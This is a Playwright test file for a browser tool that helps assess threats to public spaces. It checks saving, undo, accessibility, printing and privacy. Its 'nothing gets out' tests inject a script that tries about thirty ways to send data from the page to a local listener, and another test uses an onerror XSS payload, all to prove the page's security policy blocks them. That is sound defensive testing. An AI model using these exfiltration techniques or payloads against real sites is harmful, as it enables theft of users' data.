"""The dossier in a browser: the file, the form, the views, the pictures; and the proof that nothing gets out."""

import json
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.accessibility import violations
from tests.conftest import quiet

pytestmark = pytest.mark.browser

EN = "en/dossier/index.html"
STEPS = ("team", "space", "vulnerability", "objectives", "solutions", "evaluation", "implementation", "review")
PICTURES = json.loads((Path(__file__).parent / "cases/dossier/pictures.json").read_text("utf-8"))
VALUE = "Agora.dossierViews.store().value()"


@contextmanager
def opened(browser: Browser, url: str, **more: Any) -> Iterator[Page]:
    """A page that must not complain; it lets go of unsaved work when it is closed."""
    context = browser.new_context(**{"viewport": {"width": 1280, "height": 900}, **more})
    page = context.new_page()
    trouble: list[str] = []
    page.on("console", lambda message: trouble.append(message.text))
    page.on("pageerror", lambda error: trouble.append(str(error)))
    page.goto(url)
    yield page
    context.close()
    assert trouble == []


@pytest.fixture
def page(window: Page, http_address: str) -> Iterator[Page]:
    window.set_viewport_size({"width": 1280, "height": 900})
    with quiet(window):
        window.goto(http_address + EN)
        yield window


def go(page: Page, step: str) -> None:
    page.click(f"a[data-view={step}]")
    expect(page.locator(f"#{step}-heading")).to_be_focused()


def add_member(page: Page, name: str) -> None:
    page.locator("[data-path='team/members'] > button").click()
    page.keyboard.type(name)


def begin_assessment(page: Page) -> None:
    """A site, an assessment, a scenario."""
    go(page, "vulnerability")
    page.click("#add-site-vulnerability")
    page.click("#add-assessment-vulnerability")
    page.locator("[data-path='assessments/a1/scenarios'] > button").click()


def value(page: Page, path: str) -> Any:
    return page.evaluate("path => Agora.dossierViews.store().get(path)", path)


def saved(page: Page, tmp_path: Path) -> tuple[str, Path]:
    with page.expect_download() as waiting:
        page.click("#dossier-save")
    target = tmp_path / "saved.json"
    waiting.value.save_as(target)
    return waiting.value.suggested_filename, target


def test_what_is_saved_is_opened_again(browser: Browser, address: str, tmp_path: Path) -> None:
    """Over http and from a stick: write, save, open in another window; the name of the file tells no site."""
    with opened(browser, address + EN, accept_downloads=True) as page:
        go(page, "team")
        add_member(page, "Anna Example")
        expect(page.locator("#dossier-state")).to_have_text("Not saved yet")
        name, file = saved(page, tmp_path)
        expect(page.locator("#dossier-state")).to_have_text("Nothing to save")
        before = page.evaluate(VALUE)
    with opened(browser, address + EN) as page:
        page.set_input_files("#dossier-open-file", file)
        expect(page.locator("#dossier-said")).to_have_text("The dossier is open.")
        go(page, "team")

        assert name == "dossier.agora.json"
        assert page.evaluate(VALUE) == before
        expect(page.locator("summary", has_text="Anna Example")).to_be_visible()


@pytest.mark.parametrize("text", ["", "{", "[1]", '{"format": "agorapedia-dossier", "format_version": 99}', '{"a": 1}'])
def test_a_file_that_is_none_is_refused_whole(page: Page, text: str, tmp_path: Path) -> None:
    """The reason is told, and the work is as it was, unsaved and undoable."""
    go(page, "team")
    add_member(page, "Anna")
    before = page.evaluate(VALUE)
    (tmp_path / "bad.json").write_text(text)
    page.set_input_files("#dossier-open-file", tmp_path / "bad.json")
    page.get_by_role("button", name="Go on").click()

    expect(page.locator("#dossier-said")).to_have_text("The file was not opened. Your work is as it was.")
    assert page.locator("#dossier-refused li").count() > 0
    assert page.evaluate(VALUE) == before
    expect(page.locator("#dossier-state")).to_have_text("Not saved yet")


def test_unsaved_work_is_guarded(browser: Browser, address: str) -> None:
    """Who leaves with unsaved work is asked; who leaves without any is not."""
    asked: list[str] = []
    with opened(browser, address + EN) as page:
        page.on("dialog", lambda dialog: (asked.append(dialog.type), dialog.accept()))
        page.reload()
        assert asked == []
        go(page, "team")
        add_member(page, "Anna")
        page.reload()
        assert asked == ["beforeunload"]


def test_a_withdrawn_entry_is_called_by_its_name(page: Page) -> None:
    """In the form, the panel and the report; its page, which says why it is gone, is linked; only an id nobody knows is one."""
    page.evaluate("""() => { const data = Agora.dossierData, old = data.entries['vandalism'];
        delete data.entries['vandalism']; delete data.fingerprints['vandalism'];
        data.withdrawn['vandalism'] = 'pickpocketing'; data.withdrawn_entries['vandalism'] = old; }""")
    page.click("#example-open")
    page.evaluate("Agora.dossierViews.store().set('assessments/a2/scenarios/c6/threat', 'never-was')")
    page.evaluate("Agora.dossierViews.store().set('content_version', '2020-01-01 00000000')")
    told = page.locator("#start li", has_text="Vandalism (withdrawn)").first
    expect(told.get_by_role("link", name="Vandalism (withdrawn)")).to_have_attribute(
        "href", "../threats/vandalism.html"
    )
    expect(told).to_contain_text("Pickpocketing")
    go(page, "vulnerability")
    expect(page.locator("#vulnerability [data-panel]")).to_contain_text("Round the lime tree – Vandalism (withdrawn)")
    expect(page.locator("#vulnerability [data-panel]")).to_contain_text("never-was (not in this wiki)")
    text = page.evaluate("Agora.dossierOutputs.content('markdown', Agora.dossierOutputs.made('start'))")
    assert "| Threat | Vandalism (withdrawn) |" in text
    for step in STEPS:
        go(page, step)
        assert page.locator(f"#{step}").get_by_text("vandalism", exact=True).count() == 0


def test_new_asks_first(page: Page) -> None:
    """Cancel keeps the work, Escape too, and the focus goes back to the button."""
    go(page, "team")
    add_member(page, "Anna")
    page.click("#dossier-new")
    page.keyboard.press("Escape")
    expect(page.locator("#dossier-new")).to_be_focused()
    assert value(page, "team/members/m1/name") == "Anna"
    page.click("#dossier-new")
    page.get_by_role("button", name="Go on").click()
    assert value(page, "team/members") == []


def test_save_as_asks_for_a_name_and_cleans_it(page: Page) -> None:
    """The title stands in the name only where the reader asks."""
    page.click("#dossier-settings-summary")
    page.fill("#dossier-title-field", "Place de l’Été / 2026")
    page.click("#dossier-save-as")
    assert page.input_value("#dossier-file-name") == "dossier"
    page.check("#dossier-file-title")
    with page.expect_download() as waiting:
        page.locator("dialog").get_by_role("button", name="Save").click()

    assert waiting.value.suggested_filename == "place-de-l-ete-2026.agora.json"


def test_nothing_is_stored_until_it_is_asked_and_all_is_forgotten(browser: Browser, http_address: str) -> None:
    """Storage is off; switched on it survives a reload; “forget everything” leaves nothing at all."""
    kept = "async () => [localStorage.length, sessionStorage.length, (await indexedDB.databases()).length, document.cookie]"
    with opened(browser, http_address + EN) as page:
        page.on("dialog", lambda dialog: dialog.accept())
        go(page, "team")
        add_member(page, "Anna")
        assert page.evaluate(kept) == [0, 0, 0, ""]
        page.click("#dossier-settings-summary")
        page.check("#dossier-store")
        go(page, "team")
        add_member(page, "Bea")
        page.reload()
        assert [member["name"] for member in value(page, "team/members")] == ["Anna", "Bea"]
        assert page.evaluate(kept) == [1, 0, 0, ""]
        page.click("#dossier-forget")
        page.get_by_role("button", name="Go on").click()
        assert page.evaluate(kept) == [0, 0, 0, ""]
        assert value(page, "team/members") == []
        go(page, "team")
        add_member(page, "Cleo")
        page.wait_for_timeout(500)
        assert page.evaluate(kept) == [0, 0, 0, ""]


def test_from_a_stick_nothing_is_ever_stored(browser: Browser, site: Path) -> None:
    """There is no switch, and a way around it in our code keeps nothing either."""
    with opened(browser, f"{site.as_uri()}/{EN}") as page:
        go(page, "team")
        add_member(page, "Anna")
        page.wait_for_timeout(400)
        assert page.locator("#dossier-store").count() == 0
        assert page.evaluate("localStorage.length + sessionStorage.length") == 0
        assert page.evaluate("Agora.dossierFiles.keeps()") is False


def test_items_are_added_moved_removed_and_brought_back(page: Page) -> None:
    """The focus is where the work goes on, and undo brings back what was removed."""
    go(page, "team")
    for name in ("Anna", "Bea"):
        add_member(page, name)
    page.get_by_role("button", name="Move Bea up").click()
    assert [member["name"] for member in value(page, "team/members")] == ["Bea", "Anna"]
    page.get_by_role("button", name="Remove Bea").click()
    expect(page.locator("[data-path='team/members'] > button")).to_be_focused()
    expect(page.locator("#dossier-said")).to_have_text("Removed: Bea.")
    assert [member["id"] for member in value(page, "team/members")] == ["m1"]
    page.click("#dossier-undo")
    assert [member["name"] for member in value(page, "team/members")] == ["Bea", "Anna"]


def test_a_scale_keeps_level_range_and_reason(page: Page) -> None:
    """A level, a range around it, “unknown” without a range, and taking the answer back."""
    begin_assessment(page)
    path = "assessments/a1/scenarios/c1/likelihood"
    group = page.locator(f"fieldset[data-path='{path}']")
    group.locator("input[value='3']").check()
    group.locator("select").nth(0).select_option("2")
    group.locator("textarea").fill("Twice in ten years")
    assert value(page, path) == {"level": 3, "low": 2, "reason": "Twice in ten years"}
    group.locator("select").nth(0).select_option("4")
    expect(page.locator(".dossier-errors li")).to_contain_text("Likelihood")
    page.locator(".dossier-errors button").click()
    expect(group.locator("input:checked")).to_be_focused()
    group.locator("input[value='unknown']").check()
    assert value(page, path) == {"level": "unknown", "reason": "Twice in ten years"}
    assert page.locator(".dossier-errors").count() == 0
    group.get_by_role("button", name="Take the answer back").click()
    assert value(page, path) is None


def test_choices_from_earlier_answers_follow(page: Page) -> None:
    """Zones of the site are offered in a scenario, and an entry is chosen by its title."""
    begin_assessment(page)
    page.evaluate("Agora.dossierViews.store().set('sites/s1/zones', [{id: 'z1', name: 'Fountain', note: ''}])")
    page.locator("[data-control='assessments/a1/scenarios/c1/zone']").select_option(label="Fountain")
    page.locator("[data-control='assessments/a1/scenarios/c1/threat']").select_option(label="Vehicle attack")

    found = value(page, "assessments/a1/scenarios/c1")
    assert (found["zone"], found["threat"]) == ("z1", "vehicle-attack")
    used = page.evaluate(f"Agora.dossierFiles.stamped({VALUE}, '2026-11-21').entries")
    fingerprints = page.evaluate("Agora.dossierData.fingerprints")
    assert used["vehicle-attack"] == fingerprints["vehicle-attack"]
    assert used.items() <= fingerprints.items()


def test_the_fragment_is_the_view(page: Page, http_address: str) -> None:
    """Each step has an address; going back goes back; title, heading and the list of steps follow."""
    for step in STEPS:
        go(page, step)
        assert page.url.endswith(f"#{step}")
        assert page.locator("[data-section]:visible").count() == 1
        expect(page.locator("a[data-view][aria-current=step]")).to_have_attribute("data-view", step)
        assert str(page.locator(f"#{step}-heading").text_content()).strip() in page.title()
    page.go_back()
    expect(page.locator("#implementation-heading")).to_be_focused()
    page.goto(http_address + "en/dossier/space.html")
    page.get_by_role("link", name="Answer these questions on the screen").click()
    expect(page.locator("#space-heading")).to_be_visible()


def test_a_long_step_has_a_way_to_its_results(browser: Browser, address: str) -> None:
    """From the top, with the keyboard; the step stays open, after loading again too; where there is no result there is no way."""
    with opened(browser, address + EN + "#evaluation") as page:
        way = page.locator("#evaluation .dossier-to-results a")
        expect(way).to_be_hidden()
        page.click("a[data-view=start]")
        page.click("#example-open")
        go(page, "evaluation")
        way.focus()
        page.keyboard.press("Enter")
        expect(page.locator("#evaluation-outcome")).to_be_in_viewport()
        assert page.evaluate("document.querySelector('#evaluation > [data-panel]').getBoundingClientRect().top") < 900
        expect(page.locator("#evaluation-heading")).to_be_visible()
        assert page.url.endswith("#evaluation-outcome")
        page.on("dialog", lambda dialog: dialog.accept())
        page.reload()
        expect(page.locator("#evaluation-heading")).to_be_visible()
        go(page, "evaluation")


def test_a_step_can_be_set_aside(page: Page) -> None:
    """It is told in the list of steps, and kept in the file."""
    go(page, "review")
    page.check("#set-aside-review")

    expect(page.locator("[data-state=review]")).to_have_text("not applicable")
    expect(page.locator("#set-aside-review")).to_be_focused()
    assert value(page, "not_applicable") == ["review"]


PANEL = """() => { Agora.dossierSteps.team = function (context) {
    var count = context.dossier.team.members.length, make = context.make;
    return make('div', {'class': 'dossier-result'}, [make('h3', {text: 'Members'}), make('p', {}, [
        context.number(String(count), [{answer: 'team/members/m1/name'}, {rule: 'ours'}, {entry: 'fixed-bollards'}], 'Members')]),
        context.button('Add Zoe', function () { context.edit(function (dossier) {
            return Object.assign({}, dossier, {team: {members: dossier.team.members.concat([{id: context.nextId(dossier.team.members, 'm'), name: 'Zoe'}])}});
        }); }, {id: 'zoe'})]);
}; }"""  # noqa: E501


def test_a_number_is_opened_down_to_its_answers(page: Page) -> None:
    """A panel follows the store; its number opens answers, rule and entry, and leads to the question."""
    page.evaluate(PANEL)
    go(page, "team")
    add_member(page, "Anna")
    expect(page.locator("#team .dossier-open")).to_contain_text("1")
    page.click("#zoe")
    expect(page.locator("#team .dossier-open")).to_contain_text("2")
    expect(page.locator("#zoe")).to_be_focused()
    page.locator("#team .dossier-open").click()
    dialog = page.get_by_role("dialog", name="Members – 2")
    expect(dialog).to_contain_text("Anna")
    expect(dialog).to_contain_text("The scales and formulas are ours")
    expect(dialog.get_by_role("link", name="Fixed bollards")).to_have_attribute("target", "_blank")
    expect(dialog).to_contain_text(page.evaluate("Agora.dossierData.content_version"))
    go_to = dialog.get_by_role("button", name="Go to the question")
    go_to.click()
    expect(page.locator("[data-control='team/members/m1/name']")).to_be_focused()
    page.click("#dossier-undo")
    expect(page.locator("#team .dossier-open")).to_contain_text("1")
    go(page, "review")
    assert page.evaluate("Agora.dossierViews.go('team/members/m1/organisation')") is True
    expect(page.locator("[data-control='team/members/m1/organisation']")).to_be_focused()
    assert page.url.endswith("#team")


def test_the_keyboard_is_enough(page: Page) -> None:
    """From the first stop to a saved answer without a mouse."""
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(page.locator("#dossier-main")).to_be_focused()
    page.focus("a[data-view=team]")
    page.keyboard.press("Enter")
    expect(page.locator("#team-heading")).to_be_focused()
    for _ in range(20):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.textContent.startsWith('Add:')"):
            break
    page.keyboard.press("Enter")
    page.keyboard.type("Anna")
    page.keyboard.press("Tab")
    page.keyboard.type("Town")
    member = value(page, "team/members/m1")
    assert (member["name"], member["organisation"]) == ("Anna", "Town")


@pytest.mark.parametrize(
    ("language", "width", "scheme"),
    [("en", 320, "light"), ("en", 1280, "dark"), ("fr", 320, "dark"), ("fr", 1280, "light")],
)
def test_every_view_is_accessible(browser: Browser, http_address: str, language: str, width: int, scheme: str) -> None:
    """axe finds nothing, and nothing is too wide, in the empty and the filled state of every step, with a dialog and errors."""
    url = f"{http_address}{language}/dossier/"
    found: list[Any] = []
    with opened(browser, url + "index.html", color_scheme=scheme, viewport={"width": width, "height": 900}) as page:

        def look(name: str) -> None:
            found.extend((name, rule, places[:3]) for rule, places in violations(page))
            if page.evaluate("document.documentElement.scrollWidth > innerWidth"):
                found.append((name, "too wide"))

        look("start")
        page.evaluate(PANEL)
        begin_assessment(page)
        group = page.locator("fieldset[data-path$='/likelihood']")
        group.locator("input[value='3']").check()
        group.locator("select").nth(0).select_option("4")
        look("scenario")
        page.evaluate("""path => ['matrix', 'gaps', 'contributions', 'radar', 'ranks'].forEach(name => {
            const one = path.filter(row => row.picture === name)[0];
            const figure = Agora.dossierPictures.picture(name, Object.assign({open: true}, one.input));
            document.querySelector('#vulnerability [data-panel]').appendChild(figure);
        })""", PICTURES)  # fmt: skip
        look("pictures")
        for step in STEPS:
            go(page, step)
            for button in page.locator(f"#{step} .dossier-list > button").all():
                button.click()
            look(step)
        go(page, "team")
        page.locator("#team .dossier-open").click()
        look("dialog")
    with opened(browser, url + "space.html", color_scheme=scheme, viewport={"width": width, "height": 900}) as page:
        look("paper")

    assert found == [], found


@pytest.mark.parametrize("case", PICTURES, ids=lambda case: case["name"])
def test_a_picture_shows_what_is_true(pictures: Page, case: dict[str, Any]) -> None:
    """Places and lengths by hand; the table says the same; a drawn picture has its title as a name."""
    words = {
        "name": "Name", "value": "Value", "from": "From", "to": "To", "total": "Total", "rank": "Rank {rank}",
        "unknown": "Unknown", "range": "{answer} ({low} to {high})",
    }  # fmt: skip
    draw = "([name, input, words]) => Agora.dossierPictures.shapes[name](input, words)"
    drawn = pictures.evaluate(draw, [case["picture"], case["input"], words])
    shapes = {shape["key"]: shape for shape in drawn["shapes"]}

    assert len(shapes) == len(drawn["shapes"])
    for key, attributes in case["expect"].items():
        assert {name: shapes[key][name] for name in attributes} == attributes
    assert [key for key in case["absent"] if key in shapes] == []
    assert drawn["table"]["rows"] == case["table"]
    assert all(len(row) == len(drawn["table"]["head"]) for row in drawn["table"]["rows"])


@pytest.fixture(scope="module")
def pictures(browser: Browser, http_address: str) -> Iterator[Page]:
    with opened(browser, http_address + EN) as page:
        yield page


STORE_LAWS = """() => {
    const S = Agora.dossierStore, first = {list: [{id: 'a', n: 1}, {id: 'b', n: 2}], deep: {x: {}}}, store = S.create(first), told = [];
    store.subscribe((value, change) => told.push(change.path));
    const laws = {};
    store.set('list/b/n', 3);
    laws.changed = store.get('list/1/n') === 3 && first.list[1].n === 2;
    laws.shared = store.value().deep === first.deep && store.value().list[0] === first.list[0];
    laws.refused = [store.set('__proto__/x', 1), store.set('list/zzz/n', 1), store.set('list/a/n/deeper', 1), store.set('constructor', 1)].every(done => done === false);
    laws.nobody = store.get('toString') === undefined && store.get('list/a/constructor') === undefined && ({}).x === undefined;
    store.set('deep/y/z', 'made');
    laws.made = store.get('deep/y/z') === 'made';
    store.set('deep/y', undefined);
    laws.gone = !('y' in store.value().deep);
    laws.told = told.join(' ') === 'list/b/n deep/y/z deep/y';
    laws.undone = store.undo() && store.get('deep/y/z') === 'made' && store.undo() && store.undo() && store.value() === first && !store.undo();
    laws.clean = store.dirty() === false && store.set('list/a/n', 9) && store.dirty() === true;
    laws.same = store.set('list/a/n', 9) === true && store.set('deep', store.get('deep')) === true;
    laws.ids = [S.nextId([], 'z'), S.nextId([{id: 'z2'}, {id: 'z10'}, {id: 'other7'}], 'z'), S.nextId(undefined, 'm')].join(' ') === 'z1 z11 m1';
    return Object.keys(laws).filter(name => !laws[name]);
}"""  # noqa: E501


def test_the_store_keeps_its_laws(pictures: Page) -> None:
    """Old values stay true, what did not change is shared, nobody's keys are refused, undo goes back step by step."""
    assert pictures.evaluate(STORE_LAWS) == []


ATTEMPTS = """async address => {
    const to = name => address + name, done = [], body = document.body;
    const tries = {
        fetch: () => fetch(to('fetch'), {mode: 'no-cors'}), post: () => fetch(to('post'), {method: 'POST', mode: 'no-cors', body: 'x', keepalive: true}),
        beacon: () => navigator.sendBeacon(to('beacon'), 'x'), xhr: () => { const x = new XMLHttpRequest(); x.open('GET', to('xhr')); x.send(); },
        image: () => { new Image().src = to('image'); },
        picture: () => { const i = document.createElement('img'); i.srcset = to('picture') + ' 1x'; body.append(i); },
        svg: () => { const n = 'http://www.w3.org/2000/svg', s = document.createElementNS(n, 'svg'), i = document.createElementNS(n, 'image'); i.setAttribute('href', to('svg')); s.append(i); body.append(s); },
        link: () => add('link', {rel: 'stylesheet', href: to('link')}), icon: () => add('link', {rel: 'icon', href: to('icon')}),
        inline: () => { const s = document.createElement('style'); s.textContent = '@import "' + to('inline') + '";'; document.head.append(s); },
        style: () => { const d = document.createElement('div'); d.style.backgroundImage = 'url(' + to('style') + ')'; d.textContent = 'x'; body.append(d); },
        sheet: () => { const s = new CSSStyleSheet(); s.replaceSync('main { background-image: url(' + to('sheet') + ') }'); document.adoptedStyleSheets = [s]; },
        font: () => { const f = new FontFace('stolen', 'url(' + to('font') + ')'); document.fonts.add(f); return f.load(); },
        frame: () => add('iframe', {src: to('frame')}), object: () => add('object', {data: to('object')}), embed: () => add('embed', {src: to('embed')}),
        form: () => { const f = add('form', {action: to('form'), method: 'post', target: 'nowhere'}); f.submit(); },
        socket: () => { new WebSocket(address.replace('http', 'ws') + 'socket'); }, events: () => { new EventSource(to('events')); },
        prefetch: () => add('link', {rel: 'prefetch', href: to('prefetch')}), preload: () => add('link', {rel: 'preload', as: 'fetch', href: to('preload')}),
        module: () => add('link', {rel: 'modulepreload', href: to('module')}), manifest: () => add('link', {rel: 'manifest', href: to('manifest')}),
        script: () => { const s = document.createElement('script'); s.src = to('script'); body.append(s); },
        within: () => { const s = document.createElement('script'); s.textContent = 'fetch("' + to('within') + '", {mode: "no-cors"})'; body.append(s); },
        handler: () => { const i = document.createElement('button'); i.setAttribute('onclick', 'fetch("' + to('handler') + '")'); body.append(i); i.click(); },
        markup: () => { body.insertAdjacentHTML('beforeend', '<img src="' + to('markup') + '">'); },
        video: () => add('video', {src: to('video'), autoplay: ''}), track: () => add('audio', {src: to('track')}),
        worker: () => { new Worker(to('worker')); }, base: () => { add('base', {href: address}); const i = document.createElement('img'); i.setAttribute('src', 'base'); body.append(i); },
        rules: () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [to('rules')]}]}); body.append(s); }
    };
    function add(tag, attributes) {
        const node = document.createElement(tag);
        Object.keys(attributes).forEach(name => node.setAttribute(name, attributes[name]));
        (tag === 'link' || tag === 'base' ? document.head : body).append(node);
        return node;
    }
    for (const name of Object.keys(tries)) {
        try { await Promise.race([tries[name](), new Promise(enough => setTimeout(enough, 60))]); } catch (refused) { void refused; }
        done.push(name);
    }
    await new Promise(enough => setTimeout(enough, 700));
    return done;
}"""  # noqa: E501


@pytest.fixture
def listener() -> Iterator[tuple[str, Callable[[], list[str]]]]:
    """A server that answers anything and remembers the first line of whatever arrives."""
    heard: list[str] = []
    server = socket.create_server(("127.0.0.1", 0))

    def answer(connection: socket.socket) -> None:
        with connection:
            connection.settimeout(3)
            try:
                data = connection.recv(65536)
                if data:
                    heard.append(data.split(b"\r\n", 1)[0].decode("latin-1"))
                    connection.sendall(
                        b"HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n"
                    )
            except OSError:
                return

    def listen() -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            threading.Thread(target=answer, args=(connection,), daemon=True).start()

    threading.Thread(target=listen, daemon=True).start()
    yield f"http://127.0.0.1:{server.getsockname()[1]}/", lambda: [line.split(" ")[1].strip("/") for line in heard]
    server.close()


def attempt(browser: Browser, url: str, target: str, **more: Any) -> list[str]:
    context = browser.new_context(**more)
    page = context.new_page()
    page.on("dialog", lambda dialog: dialog.accept())
    page.goto(url)
    done = page.evaluate(ATTEMPTS, target)
    context.close()
    return list(done)


@pytest.mark.parametrize("path", [EN, "fr/dossier/space.html"])
def test_nothing_gets_out(
    browser: Browser, address: str, path: str, listener: tuple[str, Callable[[], list[str]]]
) -> None:
    """Injected script tries every way out of the page, and a listening server hears nothing at all."""
    target, heard = listener
    done = attempt(browser, address + path, target)

    assert len(done) >= 30
    assert heard() == []


def test_the_listener_would_have_heard(
    browser: Browser, http_address: str, listener: tuple[str, Callable[[], list[str]]]
) -> None:
    """The same attempts on the same page without its policy do arrive: the silence above is the policy's work."""
    target, heard = listener
    attempt(browser, http_address + EN, target, bypass_csp=True)

    expected = {
        "fetch", "post", "beacon", "xhr", "image", "picture", "svg", "link", "inline", "style", "font", "frame", "socket",
        "events", "prefetch", "preload", "form",
    }  # fmt: skip
    assert expected - set(heard()) == set()


def test_text_becomes_no_program(browser: Browser, http_address: str) -> None:
    """Markup in an answer stays text, and the browser refuses to make markup or program of text."""
    with opened(browser, http_address + EN) as page:
        page.evaluate("window.stolen = 0")
        go(page, "team")
        add_member(page, "<img src=x onerror='stolen=1'><b>Anna</b>")
        page.click("#missing-summary-team")
        assert page.locator("#team b").count() == 0
        assert page.evaluate("window.stolen") == 0
    context = browser.new_context()
    bare = context.new_page()
    bare.goto(http_address + EN)
    refused = bare.evaluate("""() => [() => { document.body.innerHTML = '<b>x</b>'; }, () => document.write('x'),
        () => { document.createElement('script').src = 'x.js'; }, () => trustedTypes.createPolicy('own', {})].map(act => {
            try { act(); return false; } catch (fault) { return fault instanceof TypeError; } })""")
    context.close()
    assert refused == [True, True, True, True]


def test_without_scripts_the_paper_is_there(browser: Browser, address: str) -> None:
    """Every step is introduced, and one click leads to its questions."""
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(address + EN)
    expect(page.locator("#dossier-app")).to_be_hidden()
    assert page.locator("[data-section]:visible").count() == 9
    href = page.locator("#vulnerability a[href='vulnerability.html']").get_attribute("href")
    page.goto(f"{address}en/dossier/{href}")
    expect(page.get_by_role("heading", level=1)).to_contain_text("Step 2.")
    context.close()


@pytest.mark.parametrize("view", ["vulnerability", "paper"])
def test_the_marking_is_printed_on_every_sheet(browser: Browser, site: Path, http_address: str, view: str) -> None:
    """The chosen marking is repeated at the head and the foot of each sheet."""
    path = EN if view != "paper" else "en/dossier/space.html"
    with opened(browser, http_address + path) as page:
        if view != "paper":
            page.click("#dossier-settings-summary")
            page.select_option("#dossier-tlp", "TLP:AMBER+STRICT")
            begin_assessment(page)
        marks = page.locator("[data-marking]")
        label = "TLP:AMBER+STRICT" if view != "paper" else "TLP: ____________"
        assert [mark.text_content() for mark in marks.all()] == [label, label]
        page.emulate_media(media="print")
        display = "q => getComputedStyle(document.querySelector(q)).display"
        groups = [page.evaluate(display, q) for q in (".dossier-marking-row", ".dossier-foot-row")]
        assert groups == ["table-header-group", "table-footer-group"]
        expect(page.locator(".dossier-head")).to_be_hidden()
        sheets = page.pdf(format="A4").count(b"/Type /Page\n")
        assert sheets > 1
